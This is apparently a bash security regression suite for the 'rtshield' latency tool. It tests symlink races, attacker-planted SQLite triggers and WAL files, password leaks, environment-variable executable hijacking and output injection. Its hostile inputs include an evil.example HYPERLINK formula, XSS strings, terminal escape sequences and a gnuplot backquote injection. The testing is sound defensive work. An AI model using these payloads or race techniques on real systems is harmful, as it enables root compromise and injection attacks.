    if [ "$(cat "$R/latency-precious.dat" 2>/dev/null)" = precious ] && [ -z "$extra" ]; then
        held "$CUR" "report -o <dir swapped with a link> ${force[*]}: $tries tries ($ok wrote a report), root's dir untouched"
    else
        broken "$CUR" "report -o <dir swapped with a link> ${force[*]}: after $tries tries root's dir lost latency-precious.dat or got: ${extra:-nothing}"
    fi
}
case_d2() { # DIR is a link to root's own earlier report
    local R=$ROOTSIDE/rootrep-d2
    "$BIN" report "$FIX/idle" "$FIX/hell" -o "$R" >/dev/null 2>&1
    local before after
    before=$(snap "$R")
    as_user ln -s "$R" "$ATT/out-d2"
    rr d2 60 report "$FIX/idle" -o "$ATT/out-d2"
    after=$(snap "$R")
    if [ "$before" = "$after" ]; then held "$CUR" "report -o <link to root's report>: root's report untouched (exit $RC)"
    else broken "$CUR" "report -o <link to root's report>: root's report rewritten/files removed (exit $RC)"; fi
}
# A small tmpfs in WORK, filled up: full_tmpfs DIR (returns 1 if no mount)
full_tmpfs() {
    mkdir -p "$1"
    mount -t tmpfs -o size=256k,mode=755 rtshield-adv "$1" || return 1
    MOUNTS+=("$1")
    mkdir "$1/out"
    dd if=/dev/zero of="$1/filler" bs=4k >/dev/null 2>&1 # until ENOSPC
    return 0
}
# Results named in OUT/ERR (a results.json in a directory it names), or "".
find_results() { # out-dir outfile errfile
    [ -s "$1/results.json" ] && { echo "$1"; return; }
    local p q
    for p in $(cat "$2" "$3" | grep -o '/[^ :,;"'"'"')]*' | sort -u); do
        for q in "$p" "$(dirname "$p")"; do
            if [ -s "$q/results.json" ]; then echo "$q"; return; fi
            if [ "$(basename "$q")" = results.json ] && [ -s "$q" ]; then echo "$q"; return; fi
        done
    done
}
# A fallback directory outside WORK this run made: removed afterwards
# (rtshield-fallback parents it created too, when left empty).
forget_fallback() { # path-of-results
    case $1 in "$WORK"/*|"") return ;; esac
    local d=$1 p
    # up to the STAMP directory below rtshield-fallback/
    while [ "$d" != / ] && [ "$(basename "$(dirname "$d")")" != rtshield-fallback ]; do d=$(dirname "$d"); done
    [ "$d" = / ] && return
    rm -rf -- "$d"
    p=$(dirname "$d")
    case " $FALLBACK_BEFORE " in *" $p "*) ;; *) rmdir "$p" 2>/dev/null ;; esac
}
case_e() { # measure --out on a full disk: results or a named fallback, summary printed
    local F=$WORK/full-e
    full_tmpfs "$F" || { broken "$CUR" "could not mount a tmpfs to fill (not run)"; return; }
    mkdir -p "$WORK/tmp-e"; chmod 700 "$WORK/tmp-e"
    TMPDIR=$WORK/tmp-e rr e 60 measure --duration 2s --period 1ms --policy other -q --no-memlock --no-dma-latency --cpus "$MCPU" --out "$F/out"
    local found summary=0
    found=$(find_results "$F/out" "$LOG/e.out" "$LOG/e.err")
    grep -qi 'max' "$LOG/e.out" && summary=1
    if [ -n "$found" ] && [ $summary = 1 ]; then held "$CUR" "measure --out <full tmpfs>: exit $RC, summary printed, results at ${found/#$WORK/WORK}"
    else broken "$CUR" "measure --out <full tmpfs>: exit $RC, summary printed=$summary, no results and no named fallback ($(first_err "$LOG/e.err" 200))"; fi
    forget_fallback "$found"
    umount "$F"
}
# Huge and endless inputs, each under a time limit and an address-space cap.
huge() { # what input
    local t0=$SECONDS rss
    /usr/bin/time -f '%M' -o "$LOG/$CUR.rss" timeout "$HUGE_SECONDS" prlimit --as=$((1 << 30)) \
        "$BIN" report "$2" -o "$WORK/out-$CUR" >"$LOG/$CUR.out" 2>"$LOG/$CUR.err"
    RC=$?
    rss=$(tail -1 "$LOG/$CUR.rss" 2>/dev/null | tr -dc 0-9); rss=$(( ${rss:-0} / 1024 ))
    if [ $RC = 2 ] && [ $rss -lt 300 ] && [ $((SECONDS - t0)) -lt "$HUGE_SECONDS" ]; then
        held "$CUR" "report $1: exit 2 in $((SECONDS - t0)) s, max RSS $rss MB"
    else
        broken "$CUR" "report $1: exit $RC after $((SECONDS - t0)) s, max RSS $rss MB"
    fi
}
case_f1() { huge /dev/zero /dev/zero; }
case_f2() { mkfifo "$WORK/fifo-f2"; huge "a FIFO nobody writes" "$WORK/fifo-f2"; }
case_f3() {
    { printf '{"schema": "rtshield.results/1", "threads": [ '; head -c $((200 << 20)) /dev/zero | tr '\0' ' '; } >"$WORK/big.json"
    huge "a 200 MB results.json" "$WORK/big.json"
    rm -f "$WORK/big.json"
}

# Checkers for the encoder cases.
cat >"$LIB/check.py" <<'EOF'
# check.py KIND FILE: prints what is wrong and exits 1, or exits 0.
import csv, json, re, sys
kind, path = sys.argv[1], sys.argv[2]
data = open(path, "rb").read()
def bad(msg):
    print(msg[:300]); sys.exit(1)
def controls(b, allowed=b"\n\t\r"):
    return sorted({c for c in b if c < 32 and c not in allowed} | ({127} if 127 in b else set()))
if kind == "term":        # text for a terminal: no control characters but \n \t
    c = controls(data, b"\n\t")
    if c: bad("control bytes %s reach the terminal" % ",".join("0x%02x" % x for x in c))
elif kind == "csv":       # no cell a spreadsheet would run as a formula
    for row in csv.reader(data.decode("utf-8", "replace").splitlines()):
        for cell in row:
            if cell[:1] in ("=", "@", "\t", "\r") or (cell[:1] in "+-" and len(cell) > 1 and not re.match(r"[+-][0-9.]", cell)):
                bad("cell starting %r" % cell[:40])
elif kind == "md":        # a Markdown table stays a table; no control characters
    probs = []
    c = controls(data, b"\n\t")
    if c: probs.append("control bytes %s in Markdown" % ",".join("0x%02x" % x for x in c))
    lines = data.decode("utf-8", "replace").splitlines()
    for i, l in enumerate(lines):
        if l.startswith("|"):
            nxt = lines[i + 1] if i + 1 < len(lines) else ""
            if not re.match(r"\|\s*:?-", nxt):
                probs.append("the table header is followed by %r, not |---" % nxt[:50])
            break
    in_table = False
    for l in lines:
        if l.startswith("|"):
            in_table = True
        elif in_table and l.strip():
            probs.append("a table line does not start with |: %r" % l[:50]); break
        elif not l.strip():
            in_table = False
    if probs: bad("; ".join(probs))
elif kind == "xml":       # well-formed, no C0 control characters, no live markup from labels
    c = controls(data)
    if c: bad("control bytes %s (not allowed in XML)" % ",".join("0x%02x" % x for x in c))
    import xml.dom.minidom
    try:
        xml.dom.minidom.parseString(data)
    except Exception as e:
        bad("not well-formed XML: %s" % e)
    if re.search(rb"<script>alert|<img src=x", data): bad("markup from a label is live")
elif kind == "html":
    if re.search(rb"<script>alert\(1\)|<img src=x onerror", data): bad("markup from a label is live in the HTML")
    if data.count(b"</script") != data.count(b"<script"): bad("</script> from a label closes a script element early")
elif kind == "openmetrics":
    lv = r'"(?:[^"\\\n]|\\["\\n])*"'
    line_re = re.compile(r'^(?:# (?:HELP|TYPE|UNIT) [a-zA-Z_:][a-zA-Z0-9_:]* .*|# EOF|[a-zA-Z_:][a-zA-Z0-9_:]*(?:\{(?:[a-zA-Z_][a-zA-Z0-9_]*=' + lv + r'(?:,[a-zA-Z_][a-zA-Z0-9_]*=' + lv + r')*,?)?\})? \S+(?: \S+)?)$')
    for l in data.decode("utf-8", "replace").splitlines():
        if l and not line_re.match(l):
            bad("not an exposition line: %r" % l[:80])
elif kind == "json":
    try:
        json.loads(data)
    except Exception as e:
        bad("not valid JSON: %s" % e)
EOF
chmod 644 "$LIB/check.py"
check() { "$PY" "$LIB/check.py" "$@"; }
# A hostile results.json: hostile OUT [key=JSON]... (from the idle fixture)
hostile() { local o=$1; shift; "$PY" "$LIB/hostile.py" "$FIX/idle/results.json" "$o" "$@"; chmod 644 "$o"; }
HOSTILE_LABEL='=HYPERLINK(\"http://evil.example/?x\",\"click\")|x\n| injected | row |\n</script><script>alert(1)</script><img src=x onerror=alert(1)>]]>\u001b]0;PWNED\u0007\u001b[2J\"} evil{a=\"b'

# ===========================================================================
# n01-n13: the numbered findings of issue 21
# ===========================================================================

case_n01() { # labels into gnuplot double-quoted strings: backquotes run commands
    local D=$WORK/n01-in M=$WORK/n01-pwned
    mkdir "$D"; cp "$FIX/cycle/timeline.csv" "$D/"
    "$PY" "$LIB/hostile.py" "$FIX/cycle/results.json" "$D/results.json" "label=\"adv\`touch $M\`x\""
    rr n01 120 report "$D" -o "$WORK/n01-rep"
    local gp
    if command -v gnuplot >/dev/null; then
        for gp in "$WORK"/n01-rep/*.gp; do
            [ -f "$gp" ] || continue
            (cd "$WORK/n01-rep" && timeout 60 gnuplot "$(basename "$gp")" >/dev/null 2>&1)
        done
        if [ -e "$M" ]; then broken "$CUR" "a results.json label ran \`touch\` as root when gnuplot read the generated $(cd "$WORK/n01-rep" && ls ./*.gp | tr '\n' ' ')"
        elif ! ls "$WORK"/n01-rep/*.gp >/dev/null 2>&1; then held "$CUR" "no .gp written (exit $RC)"
        else held "$CUR" "gnuplot ran every generated .gp; the label's command did not run"; fi
    else
        if grep -q '"[^"]*`touch' "$WORK"/n01-rep/*.gp 2>/dev/null; then broken "$CUR" "(gnuplot not installed) a backquoted command from a label sits in a double-quoted gnuplot string"
        else held "$CUR" "(gnuplot not installed) no backquote inside a double-quoted string"; fi
    fi
}

# Finding 2: a trailing / or /. defeats O_NOFOLLOW.
slash_case() { # what(measure|report) suffix
    local VP=$ROOTSIDE/$CUR
    if [ "$1" = measure ]; then
        victim_dir "$VP" results.json results.csv histogram.txt timer_thread00.txt
    else
        need_report_tpl; mkdir -p "$VP"; cp -a "$TPL/report-md/." "$VP/"
    fi
    as_user ln -s "$VP" "$ATT/$CUR-link"
    local before; before=$(snap "$VP")
    if [ "$1" = measure ]; then rr "$CUR" 60 "${MEASURE[@]}" --out "$ATT/$CUR-link$2"
    else rr "$CUR" 60 report "$FIX/idle" -o "$ATT/$CUR-link$2" --format md,csv; fi
    if [ "$(snap "$VP")" = "$before" ]; then held "$CUR" "$1 LINK$2 (LINK to root's dir): root's dir untouched (exit $RC: $(first_err "$LOG/$CUR.err" 160))"
    else broken "$CUR" "$1 LINK$2 (LINK to root's dir): root's files overwritten through the link (exit $RC; now: $(lsd "$VP"))"; fi
}
case_n02a() { slash_case measure /; }
case_n02b() { slash_case measure /.; }
case_n02c() { slash_case report /; }
case_n02d() { slash_case report /.; }

# Finding 3: links in the middle of a path.
case_n03a() { # --out att/mid/existing, mid a link to root's dir
    local VP=$ROOTSIDE/$CUR
    victim_dir "$VP/existing" results.json results.csv histogram.txt timer_thread00.txt
    as_user ln -s "$VP" "$ATT/$CUR-mid"
    local before; before=$(snap "$VP")
    rr "$CUR" 60 "${MEASURE[@]}" --out "$ATT/$CUR-mid/existing"
    if [ "$(snap "$VP")" = "$before" ]; then held "$CUR" "measure --out ATT/mid/existing: root's dir untouched (exit $RC: $(first_err "$LOG/$CUR.err" 160))"
    else broken "$CUR" "measure --out ATT/mid/existing (mid -> root's dir): root's results.json etc. overwritten (exit $RC)"; fi
}
case_n03b() { # export -o att/sub/../victim/x.xml, sub a link into root's tree
    local VP=$ROOTSIDE/$CUR
    mkdir -p "$VP/deep"; victim_dir "$VP/victim" x.xml
    as_user ln -s "$VP/deep" "$ATT/$CUR-sub"
    local before; before=$(snap "$VP")
    rr "$CUR" 60 export "$FIX/idle" --format junit -o "$ATT/$CUR-sub/../victim/x.xml"
    if [ "$(snap "$VP")" = "$before" ]; then held "$CUR" "export -o ATT/sub/../victim/x.xml: root's file untouched (exit $RC: $(first_err "$LOG/$CUR.err" 160))"
    else broken "$CUR" "export -o ATT/sub/../victim/x.xml (sub -> root's tree): root's x.xml replaced (exit $RC)"; fi
}

# Finding 4: the PostgreSQL password in every file.
case_n04() {
    local PW=PW-n04-S3cret O=$WORK/n04
    env -u RTSHIELD_NO_STORE timeout 60 "$BIN" "${MEASURE[@]}" --out "$O" --store "postgres://rtsuser:$PW@127.0.0.1:1/lab" >"$LOG/n04.out" 2>"$LOG/n04.err"
    RC=$?
    "$BIN" report "$O" -o "$WORK/n04-rep" --format html,md,csv >/dev/null 2>&1
    "$BIN" export "$O" --format cyclictest-json -o "$WORK/n04-ct.json" >/dev/null 2>&1
    "$BIN" runs import "$O" --store "$WORK/n04-store/runs.db" >/dev/null 2>&1
    "$BIN" runs show 1 --store "$WORK/n04-store/runs.db" >"$LOG/n04-show.out" 2>&1
    local hits
    hits=$(cd "$WORK" && { grep -rl -- "$PW" n04 n04-rep n04-ct.json n04-store 2>/dev/null; grep -l -- "$PW" "$LOG"/n04*.out "$LOG"/n04*.err 2>/dev/null | sed "s|$LOG/|terminal:|"; } | tr '\n' ' ')
    if [ -z "$hits" ]; then held "$CUR" "the URL's password is in no file, store or terminal output (exit $RC)"
    else broken "$CUR" "the password of --store postgres://u:PW@... is in: $hits(results files mode $(stat -c %a "$O/results.json" 2>/dev/null))"; fi
}

# Finding 5: root opens a store an attacker controls.
case_n05a() { # an attacker-owned runs.db with a trigger, in a sticky world-writable dir
    need_store_tpl
    local DB=$STICKY/n05a.db
    as_user "$PY" - "$TPL/runs.db" "$DB" <<'EOF'
import shutil, sqlite3, os, sys
shutil.copy(sys.argv[1], sys.argv[2])
c = sqlite3.connect(sys.argv[2], isolation_level=None)
c.execute("CREATE TABLE pwn (what TEXT)")
c.execute("CREATE TRIGGER pwn_t AFTER INSERT ON runs BEGIN INSERT INTO pwn VALUES ('trigger ran as ' || new.host); END")
c.close(); os.chmod(sys.argv[2], 0o666)
EOF
    rr "$CUR" 60 runs import "$FIX/hell" --store "$DB"
    local n
    n=$("$PY" -c 'import sqlite3,sys; print(sqlite3.connect("file:"+sys.argv[1]+"?mode=ro", uri=True).execute("select count(*) from pwn").fetchone()[0])' "$DB" 2>/dev/null)
    if [ "${n:-0}" -gt 0 ]; then broken "$CUR" "root stored its run in the attacker's runs.db (uid $AUID, mode 666) and the attacker's trigger ran (exit $RC)"
    elif [ $RC = 0 ]; then broken "$CUR" "root stored its run in the attacker's runs.db (exit 0)"
    else held "$CUR" "refused the attacker's runs.db (exit $RC: $(first_err "$LOG/$CUR.err" 200))"; fi
}
case_n05b() { # a forged -wal planted next to root's store
    need_store_tpl
    local DB=$STICKY/n05b.db
    cp "$TPL/runs.db" "$DB"; chmod 644 "$DB"
    as_user "$PY" - "$TPL/runs.db" "$ATT/n05b-copy.db" "$DB-wal" <<'EOF'
import shutil, sqlite3, os, sys
shutil.copy(sys.argv[1], sys.argv[2])
c = sqlite3.connect(sys.argv[2], isolation_level=None)
c.execute("PRAGMA journal_mode=WAL"); c.execute("PRAGMA wal_autocheckpoint=0")
c.execute("UPDATE runs SET label='FORGED-WAL'")
shutil.copy(sys.argv[2] + "-wal", sys.argv[3])
os._exit(0)   # leave the WAL un-checkpointed
EOF
    rr "$CUR" 60 runs list --store "$DB"
    if grep -q FORGED-WAL "$LOG/$CUR.out"; then broken "$CUR" "a -wal file of uid $AUID planted beside root's store was merged: runs list shows the attacker's label (exit $RC)"
    else held "$CUR" "the planted -wal was not used (exit $RC: $(first_err "$LOG/$CUR.err" 200))"; fi
}
case_n05c() { # HOME of another user (sudo -E): root's store dir swapped for the attacker's
    need_store_tpl
    local H=$ATT/home-n05c
    as_user mkdir -p "$H/.local/share" "$ATT/n05c-evil"
    as_user "$PY" -c 'import shutil,sqlite3,sys; shutil.copy(sys.argv[1], sys.argv[2]); c=sqlite3.connect(sys.argv[2]); c.execute("update runs set label=?", ("FORGED-HOME",)); c.commit()' "$TPL/runs.db" "$ATT/n05c-evil/runs.db"
    "${AS_USER[@]}" "$PY" "$LIB/swapin.py" "$H/.local/share" rtshield dir "$ATT/n05c-evil" 600 >"$LOG/n05c.swaps" &
    local sw=$!; BG_PIDS+=($sw)
    wait_for 60 grep -q ready "$LOG/n05c.swaps"
    local i hits=0 tries=0 end=$((SECONDS + RACE_SECONDS * 3))
    for i in $(seq 1 "$RACE_TRIES"); do
        [ $SECONDS -lt $end ] || break
        env HOME="$H" timeout 30 "$BIN" runs list >"$LOG/n05c.out" 2>&1
        tries=$((tries + 1))
        grep -q FORGED-HOME "$LOG/n05c.out" && hits=$((hits + 1))
        sleep 0.4
    done
    stop_bg $sw
    if [ $hits -gt 0 ]; then broken "$CUR" "with HOME=<attacker's home>, root opened the attacker's runs.db in $hits of $tries tries (its directory was checked, then reopened by path)"
    else held "$CUR" "with HOME=<attacker's home>, $tries tries: never the attacker's db ($(first_err "$LOG/n05c.out" 160))"; fi
}

# Finding 6: the full-disk fallback squatted.
case_n06() {
    local F=$WORK/full-n06 p squats="" unsq=""
    full_tmpfs "$F" || { broken "$CUR" "could not mount a tmpfs to fill (not run)"; return; }
    as_user mkdir -m 755 "$STICKY/rtshield-fallback"
    for p in /tmp /dev/shm; do
        if [ ! -e "$p/rtshield-fallback" ] && as_user mkdir -m 755 "$p/rtshield-fallback" 2>/dev/null; then
            EXTRA_RM+=("$p/rtshield-fallback"); squats="$squats $p"
        else unsq="$unsq $p"; fi
    done
    TMPDIR=$STICKY rr "$CUR" 60 measure --duration 2s --period 1ms --policy other -q --no-memlock --no-dma-latency --cpus "$MCPU" --out "$F/out"
    local found in_att=""
    found=$(find_results "$F/out" "$LOG/$CUR.out" "$LOG/$CUR.err")
    for p in "$STICKY" $squats; do
        [ -n "$(ls -A "$p/rtshield-fallback" 2>/dev/null)" ] && in_att="$in_att $p/rtshield-fallback"
    done
    for p in $squats; do rm -rf "$p/rtshield-fallback"; done
    umount "$F"
    local note="squatted: \$TMPDIR$squats${unsq:+ (not squattable:$unsq)}"
    if [ -n "$in_att" ]; then broken "$CUR" "results written into the attacker's fallback dir(s)$in_att ($note)"
    elif [ -z "$found" ]; then broken "$CUR" "disk full and every fallback squatted: no results anywhere, exit $RC, stdout says: $(grep -m1 -i 'results' "$LOG/$CUR.out" | clean 120) ($note)"
    else held "$CUR" "results at ${found/#$WORK/WORK} ($note)"; forget_fallback "$found"; fi
}

# Finding 7: TMPDIR redirects the io load; load.size unbounded.
case_n07a() {
    local A=$ATT/tmp-$CUR V=$ROOTSIDE/$CUR
    as_user mkdir -m 755 "$A"; mkdir -m 755 "$V"
    "${AS_USER[@]}" "$PY" "$LIB/swapin.py" "$A" 'rtshield-io-.*' link "$V" 600 >"$LOG/$CUR.swaps" &
    local sw=$!; BG_PIDS+=($sw)
    wait_for 60 grep -q ready "$LOG/$CUR.swaps"
    (while :; do ls -A "$V"; sleep 0.05; done) >"$LOG/$CUR.seen" 2>/dev/null &
    local po=$!; BG_PIDS+=($po)
    local i seen=""
    for i in 1 2 3; do   # the swap races the worker's start: a few tries
        TMPDIR=$A rr "$CUR" 60 measure --duration 3s --period 1ms --policy other -q --no-memlock --no-dma-latency --cpus "$MCPU" --load io --load-cpus "$LCPU" --out "$WORK/o-$CUR-$i"
        sleep 0.3
        seen=$(sort -u "$LOG/$CUR.seen" | tr '\n' ' ')
        [ -n "$seen" ] && break
    done
    stop_bg $sw $po
    if [ -n "$seen" ]; then broken "$CUR" "TMPDIR=<attacker's dir>: rtshield-io-* swapped for a link, root's io load wrote $seen in root's directory (exit $RC, try $i)"
    else held "$CUR" "no io load file appeared in root's directory ($i tries, exit $RC; $(grep -c '^swapped' "$LOG/$CUR.swaps") swap(s))"; fi
}
case_n07b() {
    cfg "$WORK/$CUR.cfg" "1 s" "program[0]
{
  load io
  load.size 9000000G
  cpu_affinity $LCPU
}"
    rr "$CUR" 30 run --check "$WORK/$CUR.cfg"
    if [ $RC = 2 ]; then held "$CUR" "load.size 9000000G refused: $(first_err "$LOG/$CUR.err" 160)"
    else broken "$CUR" "run --check accepts an io load of load.size 9000000G (9 PB per worker) (exit $RC)"; fi
}

# Finding 8: partition scope (fake trees only).
p_tree() { # dir: a v1 fake tree with a private parent P (holding task 102)
    "$PY" "$LIB/faketree.py" "$1" v1
    local M=$1/sys/fs/cgroup/cpuset
    mkdir "$M/P"
    echo 0-3 >"$M/P/cpuset.cpus"; echo 0-3 >"$M/P/cpuset.effective_cpus"; echo 0 >"$M/P/cpuset.mems"
    echo 1 >"$M/P/cpuset.cpu_exclusive"; echo 1 >"$M/P/cpuset.sched_load_balance"
    echo 0 >"$M/P/notify_on_release"; echo 102 >"$M/P/tasks"; : >"$M/P/cgroup.procs"
}
parent_root_case() { # --parent value
    local T=$WORK/tree-$CUR
    "$PY" "$LIB/faketree.py" "$T" v1
    rr "$CUR" 60 --sysroot "$T" partition create 1 --parent "$1" --dry-run
    if [ $RC = 2 ]; then held "$CUR" "partition create 1 --parent '$1' refused: $(first_err "$LOG/$CUR.err" 160)"
    else broken "$CUR" "partition create 1 --parent '$1' accepted (exit $RC): $(grep -m1 'move .* tasks' "$LOG/$CUR.out" | clean 120)"; fi
}
case_n08a() { parent_root_case ""; }
case_n08b() { parent_root_case /; }
move_case() { # pid what
    local T=$WORK/tree-$CUR M
    p_tree "$T"; M=$T/sys/fs/cgroup/cpuset
    rr "$CUR-create" 60 --sysroot "$T" partition create 3 --parent P
    [ -d "$M/P/rt" ] || { broken "$CUR" "setup: partition create 3 --parent P failed on the fake tree (exit $RC: $(first_err "$LOG/$CUR-create.err" 160))"; return; }
    rr "$CUR" 60 --sysroot "$T" partition move rt "$1" --parent P
    if grep -qx "$1" "$M/P/rt/tasks" 2>/dev/null; then broken "$CUR" "partition move rt $1 --parent P moved $2 (not in P) into P/rt (exit $RC)"
    else held "$CUR" "$2 not moved (exit $RC: $(first_err "$LOG/$CUR.err" 160))"; fi
}
case_n08c() { move_case 1 "PID 1 (init)"; }
case_n08d() { move_case 2 "kthreadd (a kernel thread)"; }

# Finding 9: RTSHIELD_LOAD_EXE (sudo -E or env_keep RTSHIELD_*).
case_n09() {
    as_user mkdir -p "$ATT/bin"
    printf '#!/bin/sh\nid -u >>%s/n09-ran\nexit 0\n' "$ATT" | as_user tee "$ATT/bin/evil" >/dev/null
    as_user chmod 755 "$ATT/bin/evil"
    RTSHIELD_LOAD_EXE=$ATT/bin/evil rr "$CUR" 60 "${MEASURE[@]}" --load cpu --load-cpus "$LCPU" --out "$WORK/o-$CUR"
    if grep -qx 0 "$ATT/n09-ran" 2>/dev/null; then broken "$CUR" "RTSHIELD_LOAD_EXE=<attacker's script>: root ran it (uid 0), $(wc -l <"$ATT/n09-ran") time(s) (exit $RC)"
    else held "$CUR" "the attacker's script did not run as root (exit $RC)"; fi
}

# Finding 10: signals and tracing leftovers.
LOCKED=0
lock_live() { # the live tests' lock around tracefs work (other sessions trace too)
    [ -n "$LOCK" ] && [ $LOCKED = 0 ] || return 0
    exec 8>>"$LOCK" || return 1
    # flock in the background and `wait`: a signal to the script is handled
    # at once (the lock belongs to the open file, shared with the child).
    flock -w 1800 8 &
    local fp=$!; BG_PIDS+=($fp)
    wait $fp && LOCKED=1
    [ $LOCKED = 1 ] || { exec 8>&-; return 1; }
}
no_lock() { broken "$CUR" "not run: could not take the live-tests lock $LOCK within 30 min (another session is tracing)"; }
unlock_live() { [ $LOCKED = 1 ] && { flock -u 8; exec 8>&-; LOCKED=0; }; return 0; }
tracefs_now() { awk '$9 == "tracefs" {print $5}' /proc/self/mountinfo | head -1; }
have_tracefs() { grep -qw tracefs /proc/filesystems; }
# rtshield in the background with default signal dispositions (a
# non-interactive shell would start it with SIGINT/SIGQUIT ignored).
BGPID=0
bg_rts() { # name args...
    local n=$1; shift
    env --default-signal=HUP,INT,QUIT,TERM "$BIN" "$@" >"$LOG/$n.out" 2>"$LOG/$n.err" &
    BGPID=$!; ROOT_PIDS+=($BGPID)
}
wait_rts() { # reap BGPID (then forget it: its pid may be reused)
    { wait "$BGPID"; } 2>/dev/null; RC=$?
    local p keep=()
    for p in "${ROOT_PIDS[@]}"; do [ "$p" = "$BGPID" ] || keep+=("$p"); done
    ROOT_PIDS=("${keep[@]}")
}
wait_for() { # seconds test-command...: poll until true
    local end=$((SECONDS + $1)); shift
    while [ $SECONDS -lt $end ]; do "$@" && return 0; sleep 0.2; done
    return 1
}
instance_of() { local t; t=$(tracefs_now); [ -n "$t" ] && echo "$t/instances/rtshield-$1"; }
has_instance() { local d; d=$(instance_of "$1"); [ -n "$d" ] && [ -d "$d" ]; }
camp30() { # toml file: one 30 s cell
    sed 's/^duration = .*/duration = "30s"/' "$LIB/tiny.toml" >"$1"
}
# SIG to a running measure/run/campaign: the run must end like SIGTERM
# (results written), and with --trace-on leave no instance or mount.
sig_case() { # SIG measure|run|campaign [trace]
    local sig=$1 what=$2 trace=${3:-} O=$WORK/o-$CUR before
    if [ -n "$trace" ]; then
        have_tracefs || { held "$CUR" "this kernel has no tracefs: nothing can be left"; return; }
        lock_live || { no_lock; return; }
    fi
    before=$(tracefs_now)
    case $what in
        measure) bg_rts "$CUR" measure --duration 30s --period 1ms --policy other -q --no-memlock --no-dma-latency --cpus "$MCPU" --out "$O" ${trace:+--trace-on 500us} ;;
        run) cfg "$WORK/$CUR.cfg" "30 s"; bg_rts "$CUR" run -q "$WORK/$CUR.cfg" --out "$O" ;;
        campaign) camp30 "$WORK/$CUR.toml"; bg_rts "$CUR" campaign "$WORK/$CUR.toml" --out "$O" --store "$WORK/$CUR.db" ;;
    esac
    [ -n "$trace" ] && TRACE_PIDS+=($BGPID)
    if [ -n "$trace" ]; then wait_for 20 has_instance "$BGPID"; else sleep 4; fi
    sleep 2
    # its children (campaign cells): they must end with it
    local kids k orphans=""
    kids=$(pgrep -P "$BGPID" | tr '\n' ' ')
    kill -"$sig" "$BGPID" 2>/dev/null
    wait_rts
    local res; res=$(find "$O" -name results.json 2>/dev/null | head -1)
    sleep 1
    for k in $kids; do
        case $(readlink "/proc/$k/exe" 2>/dev/null) in *rtshield*) ;; *) continue ;; esac; if :; then
            orphans="$orphans $k"; kill "$k" 2>/dev/null
        fi
    done
    [ -n "$orphans" ] && { wait_for 20 bash -c "for k in $orphans; do kill -0 \$k 2>/dev/null && exit 1; done; exit 0"; orphans=" its child rtshield(s)$orphans kept running after it died (killed by the script)"; }
    local inst="" mnt=""
    if [ -n "$trace" ]; then
        has_instance "$BGPID" && inst=" trace instance rtshield-$BGPID left (tracing_on=$(cat "$(instance_of "$BGPID")/tracing_on" 2>/dev/null))"
        [ -z "$before" ] && [ -n "$(tracefs_now)" ] && mnt=" tracefs left mounted at $(tracefs_now)"
        trace_cleanup; unlock_live
    fi
    if [ -n "$res" ] && [ -z "$inst$mnt$orphans" ]; then held "$CUR" "SIG$sig ended $what like SIGTERM: exit $RC, results written${trace:+, nothing left in tracefs}"
    else broken "$CUR" "SIG$sig to $what: exit $RC,$([ -z "$res" ] && echo " no results.json ($(ls "$O" 2>/dev/null | tr '\n' ' '))")$inst$mnt$orphans"; fi
}
case_n10a() { sig_case HUP measure; }
case_n10b() { sig_case HUP measure trace; }
# After SIGKILL (nothing can clean up then): the next run removes what the
# dead rtshield left, and audit/sysinfo report it meanwhile.
killed_trace() { # starts a traced measure and SIGKILLs it; sets KPID, KBEFORE
    KBEFORE=$(tracefs_now)
    bg_rts "$CUR-killed" measure --duration 60s --period 1ms --policy other -q --no-memlock --no-dma-latency --cpus "$MCPU" --out "$WORK/o-$CUR" --trace-on 500us
    KPID=$BGPID; TRACE_PIDS+=($KPID)
    wait_for 20 has_instance "$KPID"; sleep 1
    kill -KILL "$KPID"; wait_rts
}
case_n10c() {
    have_tracefs || { held "$CUR" "this kernel has no tracefs: nothing can be left"; return; }
    lock_live || { no_lock; return; }
    killed_trace
    if ! has_instance "$KPID"; then trace_cleanup; unlock_live; broken "$CUR" "setup: the traced measure made no instance (see $CUR-killed.err: $(first_err "$LOG/$CUR-killed.err" 120))"; return; fi
    local on; on=$(cat "$(instance_of "$KPID")/tracing_on" 2>/dev/null)
    rr "$CUR" 60 "${MEASURE[@]}" --out "$WORK/o2-$CUR"
    local left=""
    has_instance "$KPID" && left=" instance rtshield-$KPID (tracing_on=$on) still there"
    [ -z "$KBEFORE" ] && [ -n "$(tracefs_now)" ] && left="$left; tracefs the dead rtshield mounted still at $(tracefs_now)"
    trace_cleanup; unlock_live
    if [ -z "$left" ]; then held "$CUR" "the next measure removed the SIGKILLed run's trace instance${KBEFORE:-, and its tracefs mount}"
    else broken "$CUR" "after SIGKILL of a traced measure, the next measure (exit $RC) left:$left"; fi
}
case_n10d() {
    have_tracefs || { held "$CUR" "this kernel has no tracefs: nothing can be left"; return; }
    lock_live || { no_lock; return; }
    killed_trace
    if ! has_instance "$KPID"; then trace_cleanup; unlock_live; broken "$CUR" "setup: the traced measure made no instance"; return; fi
    rr "$CUR-audit" 60 audit --watch 0s
    rr "$CUR-sysinfo" 60 sysinfo
    trace_cleanup; unlock_live
    if grep -q "rtshield-$KPID" "$LOG/$CUR-audit.out" "$LOG/$CUR-audit.err" && grep -q "rtshield-$KPID" "$LOG/$CUR-sysinfo.out" "$LOG/$CUR-sysinfo.err"; then
        held "$CUR" "audit and sysinfo name the leftover trace instance rtshield-$KPID"
    else
        broken "$CUR" "a trace instance left by a killed rtshield (tracing_on=1, events on) is not mentioned by$(grep -q "rtshield-$KPID" "$LOG/$CUR-audit.out" || echo " audit")$(grep -q "rtshield-$KPID" "$LOG/$CUR-sysinfo.out" || echo " sysinfo")"
    fi
}

# Finding 11: output injection (terminal, Markdown, CSV).
case_n11a() { # an escape sequence in a config value reaches root's terminal
    printf 'main\n{\n  stats.period 100 \033]0;PWNED\007\033[2J ms\n}\n' >"$WORK/$CUR.cfg"
    rr "$CUR" 30 run --check "$WORK/$CUR.cfg"
    cat "$LOG/$CUR.out" "$LOG/$CUR.err" >"$LOG/$CUR.all"
    if msg=$(check term "$LOG/$CUR.all"); then held "$CUR" "run --check: the bad value is shown escaped (exit $RC)"
    else broken "$CUR" "run --check <config with ESC in a value>: $msg (exit $RC)"; fi
}
case_n11b() { # an escape sequence in a path the attacker named
    local D=$ATT/res-$CUR
    as_user mkdir -p "$D/r${ESC}]0;PWNED"$'\a'"${ESC}[2J"
    as_user cp "$FIX/idle/results.json" "$D/r${ESC}]0;PWNED"$'\a'"${ESC}[2J/"
    rr "$CUR" 60 report "$D"/* -o "$WORK/o-$CUR" --format md
